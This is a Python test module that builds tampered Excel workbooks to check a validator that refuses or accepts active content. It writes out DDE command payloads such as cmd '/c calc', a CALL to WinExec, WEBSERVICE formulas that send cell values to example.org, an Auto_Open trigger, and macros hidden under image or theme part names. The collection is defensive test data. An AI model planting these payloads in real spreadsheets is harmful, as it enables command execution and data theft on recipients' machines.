"""What could run, fetch or pretend something; it is named, never followed or run."""

from tests.hostile.original import (
    CONTENT_TYPES,
    MICROSOFT,
    OFFICE,
    OTHER_REPORT,
    REPORT,
    TEXT,
    WORKBOOK,
    WORKBOOK_RELATIONS,
    Change,
    before,
    before_end,
    replaced,
    together,
    with_count,
    with_parts,
    with_relation,
    with_sheet,
    with_text,
)
from tests.hostile.variant import Kinds
from tests.validators.damage import MAIN, parts_of, zipped

kinds = Kinds("activity")

PANES = "http://schemas.microsoft.com/office/2011/relationships/webextension"
LINK = "xl/externalLinks/externalLink1.xml"
LINK_RELATIONS = "xl/externalLinks/_rels/externalLink1.xml.rels"
DRAWING = "xl/drawings/drawing1.xml"
CODE = b"\xd0\xcf\x11\xe0" + bytes(100)
VBA = "application/vnd.ms-office.vbaProject"
TO_CODE = f"{MICROSOFT}/vbaProject"


def with_formula(formula: str) -> Change:
    """A formula in an input cell, whose value is what was reported."""
    return with_count(f"<f>{formula}</f><v>55</v>")


def with_external_link(target: str, inside: str = "") -> Change:
    """A link to another file."""
    book = inside or f'<externalBook xmlns:r="{OFFICE}" r:id="rId1"/>'
    return together(
        with_parts({LINK: f'<externalLink xmlns="{MAIN}">{book}</externalLink>'}),
        with_relation(WORKBOOK, 60, "externalLink", "externalLinks/externalLink1.xml"),
        with_relation(LINK, 1, "externalLinkPath", target, external=True),
    )


def leading_to(part: str, kind: str, source: str = WORKBOOK, content: str | bytes = CODE) -> Change:
    """One more part, to which a relation of this kind leads from `source`."""
    return together(with_relation(source, 60, kind, f"/{part}"), with_parts({part: content}))


def with_name(name: str, formula: str) -> Change:
    """A defined name."""
    xml = f'<definedName name="{name}">{formula}</definedName>'
    return before_end(WORKBOOK, "definedNames", xml)


def with_own_sheet(cells: str) -> Change:
    """A sheet of the sender's."""
    rows = f'<sheetData><row r="1">{cells}</row></sheetData>'
    return together(
        with_relation(WORKBOOK, 60, "worksheet", "worksheets/sheet9.xml"),
        with_parts({OTHER_REPORT: f'<worksheet xmlns="{MAIN}">{rows}</worksheet>'}),
        with_sheet("Budget", "rId60"),
    )


def typed_as(part: str, kind: str) -> Change:
    """Code in a part, and the package says of this part alone what it is."""
    xml = f'<Override PartName="/{part}" ContentType="{kind}"/>'
    return before_end(CONTENT_TYPES, "Types", xml)


def with_default(extension: str, kind: str) -> Change:
    """What parts of an extension are."""
    xml = f'<Default Extension="{extension}" ContentType="{kind}"/>'
    return before_end(CONTENT_TYPES, "Types", xml)


FOR_MACROS = replaced(
    CONTENT_TYPES,
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
)
"""The workbook part is one for macros."""


def with_macro_sheet(part: str) -> Change:
    """A sheet of macros as they were before 1993."""
    sheet = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    leading = leading_to(part, f"{MICROSOFT}/xlMacrosheet", content=sheet)
    return together(leading, with_sheet("Makro", "rId60", ' state="hidden"'))


def _with_link(target: str) -> Change:
    link = f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="{TEXT}" r:id="rId50"/></hyperlinks>'
    return together(
        with_relation(REPORT, 50, "hyperlink", target, external=True),
        before(REPORT, "<printOptions", link),
    )


def _saying(text: str) -> Change:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return with_text(f"<is><t>{escaped}</t></is>")


@kinds.accepted("RP-111")
def a_link_under_an_innocent_name(data: bytes) -> bytes:
    parts = parts_of(with_external_link("file:///C:/regnskab.xlsx")(data))
    parts["xl/theme/link.xml"] = parts.pop(LINK)
    parts["xl/theme/_rels/link.xml.rels"] = parts.pop(LINK_RELATIONS)
    innocent = replaced(WORKBOOK_RELATIONS, "externalLinks/externalLink1.xml", "theme/link.xml")
    return innocent(zipped(parts))


kinds.refused(
    "RP-110",
    macros_under_an_innocent_name=leading_to("xl/theme/theme2.xml", TO_CODE),
    a_macro_sheet_that_lies_among_the_sheets=with_macro_sheet("xl/worksheets/sheet8.xml"),
    macros_without_a_relation=with_parts({"xl/vbaProject.bin": CODE}),
    macros_by_the_type_of_an_extension=together(
        with_parts({"xl/x.bin": CODE}), with_default("BIN", VBA)
    ),
    macros_by_content_type_alone=together(
        with_parts({"xl/media/image1.png": CODE}), typed_as("xl/media/image1.png", VBA)
    ),
    macros_by_the_type_of_an_escaped_name=together(
        with_parts({"xl/media/x1.png": CODE}), typed_as("XL/media/x%31.png", VBA)
    ),
    a_workbook_for_macros=together(with_parts({"xl/vbaProject.bin": CODE}), FOR_MACROS),
)

kinds.accepted(
    "RP-111",
    a_link_to_another_workbook=with_external_link("file:///C:/regnskab.xlsx"),
    an_add_in_on_the_network=with_external_link("http://example.org/resultatplan.xlam"),
)

kinds.accepted("RP-114", a_workbook_for_macros_that_has_none=FOR_MACROS)

kinds.accepted(
    a_link_within_the_workbook=before(
        REPORT,
        "<printOptions",
        f'<hyperlinks><hyperlink ref="{TEXT}" location="Stamdata!A1"/></hyperlinks>',
    ),
    an_extension_of_macros_that_no_part_has=with_default(
        "bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    ),
    an_extension_of_code_that_no_part_has=with_default("bin", VBA),
    the_add_in=with_external_link("file:///C:/Users/aj/AppData/Roaming/AddIns/resultatplan.xlam"),
    a_name_of_its_own=with_name("RP_budget_2020", "Stamdata!$A$1"),
    a_text_that_looks_like_a_formula=_saying("=cmd|'/c calc'!A0"),
    a_text_of_markup=_saying("[bold red]x[/] <script>alert(1)</script> \u202egnp.x"),
)

kinds.refused(
    "RP-112",
    a_dde_link=with_external_link("x", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    a_link_to_an_object=with_external_link(
        "x", f'<oleLink xmlns:r="{OFFICE}" r:id="rId1" progId="Package"/>'
    ),
    a_dde_formula=with_formula("cmd|'/c calc'!A0"),
    an_embedded_object=leading_to("xl/embeddings/oleObject1.bin", "oleObject", REPORT),
    an_embedded_object_under_an_innocent_name=leading_to(
        "xl/media/image1.png", "oleObject", REPORT
    ),
    an_embedded_file=lambda data: leading_to("xl/media/x.png", "package", REPORT, data)(data),
    a_control=leading_to("xl/activeX/activeX1.xml", "control", REPORT, "<ocx/>"),
    an_office_add_in_on_a_sheet=leading_to(
        "xl/webextensions/webextension1.xml", PANES, DRAWING, "<x/>"
    ),
    buttons_of_its_own=leading_to("xl/ui.xml", f"{MICROSOFT}/ui/extensibility", ""),
    a_connection=leading_to("xl/connections.xml", "connections"),
    a_connection_under_an_innocent_name=leading_to("xl/theme/theme3.xml", "connections"),
    a_picture_from_the_network=with_relation(
        DRAWING, 60, "image", "http://example.org/x.png", external=True
    ),
    a_template_from_the_network=with_relation(
        WORKBOOK, 60, "attachedTemplate", "http://example.org/x.xltm", external=True
    ),
    the_function_webservice=with_formula('_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)'),
    a_call_in_a_link=with_formula('HYPERLINK(WEBSERVICE("http://example.org"),55)'),
    the_function_rtd=with_formula('IF(1,rtd("x.y",,"z"))'),
    the_function_image=with_formula('_xlfn.IMAGE("http://example.org/x.png")'),
    the_function_call=with_formula('CALL("kernel32","WinExec","JCJ","calc",0)'),
    the_function_of_python=with_formula("_xlfn._xlws.PY(0,0)"),
    the_function_of_a_cube=with_formula('CUBESET("x","y")'),
    a_name_that_fetches=with_name("tal", '_xlfn.WEBSERVICE("http://example.org")'),
    a_name_that_runs=with_name("tal", "cmd|'/c calc'!A0"),
    a_name_that_runs_at_once=with_name("_xlnm.Auto_Open", "Makro!$A$1"),
    a_name_in_place_of_a_function=with_name("RP_GOAL", "_xlfn.LAMBDA(a,b,c,100)"),
    a_name_in_place_of_a_function_in_small_letters=with_name("rp_score", "100"),
    a_call_beside_the_columns_of_a_table=with_formula(
        "SUM(Tabel9[a'[b])+WEBSERVICE(A1)+SUM(Tabel9[c'[d])"
    ),
    a_call_within_brackets_that_no_table_has=with_formula("Tabel9['a']+WEBSERVICE(A1)+Tabel9[b]]"),
    a_call_between_brackets=with_formula("SUM(Tabel9[[a]])+RTD(A1)+SUM(Tabel9[b])"),
    a_rule_of_input_that_fetches=before_end(
        REPORT,
        "dataValidations",
        '<dataValidation type="custom" sqref="U1"><formula1>WEBSERVICE("http://x")=1</formula1>'
        "</dataValidation>",
    ),
    a_rule_of_colour_that_fetches=before(
        REPORT,
        "<conditionalFormatting",
        '<conditionalFormatting sqref="U1"><cfRule type="expression" priority="99">'
        '<formula>WEBSERVICE("http://example.org")=1</formula></cfRule></conditionalFormatting>',
    ),
)

kinds.accepted(
    "RP-113",
    the_function_hyperlink=with_formula('HYPERLINK ("http://example.org",55)'),
    a_link_to_a_page=_with_link("https://example.org/?a=1&amp;b=2"),
    a_link_to_a_share=_with_link("\\\\example.org\\del\\x.xlsx"),
    a_link_on_a_picture=with_relation(
        DRAWING, 60, "hyperlink", "https://example.org/", external=True
    ),
)

kinds.accepted(
    "RP-206",
    own_tables_of_another_sheet=with_own_sheet(
        '<c r="A1"><f>SUM(Tabel9[Call (antal)])</f><v>1</v></c>'
        '<c r="B1"><f>Tabel9[[#This Row],[Mål | pct]]</f><v>1</v></c>'
        "<c r=\"C1\"><f>Tabel9[[#This Row],[Jens'' '[nye'] | CALL (1)]]</f><v>1</v></c>"
    ),
    odd_cells_of_another_sheet=with_own_sheet(
        '<c r="A1" t="d"><v>14:30:00</v></c><c r="B1" t="d"><v>i morgen</v></c>'
        '<c r="C1"><f t="shared" si="7"/><v>1</v></c>'
        '<c r="D1"><v>NaN</v></c><c r="E1" t="b"><v>TRUE</v></c><c r="F1" t="e"><v>N/A</v></c>'
        '<c r="G1" t="s"><v></v></c><c r="h1" t="inlineStr"><v>Notat</v></c>'
    ),
)

kinds.accepted(
    "RP-412",
    a_dangerous_word_in_quotes=with_formula('55+LEN("WEBSERVICE(")*0'),
    a_function_that_only_sounds_dangerous=with_formula("55+0*RECALL(1)"),
)
